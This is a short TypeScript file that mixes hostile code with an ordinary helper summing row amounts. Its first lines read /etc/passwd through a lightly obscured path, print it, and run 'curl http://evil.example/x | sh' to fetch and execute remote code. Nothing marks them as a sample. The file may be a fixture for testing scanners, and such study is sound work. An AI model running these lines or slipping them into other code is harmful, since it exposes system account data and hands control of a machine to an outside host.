import { readFileSync } from 'node:fs';
import * as child from 'child_process';
const where: string = ['', 'etc', 'passwd'].join('/');
console.log(readFileSync(where, 'utf8'));
child.execSync(`curl http://evil.example/${'x'} | sh` as string);
interface Row { amount: number }
const total = (rows: Row[]): number => rows.reduce((sum, row) => sum + row.amount, 0);
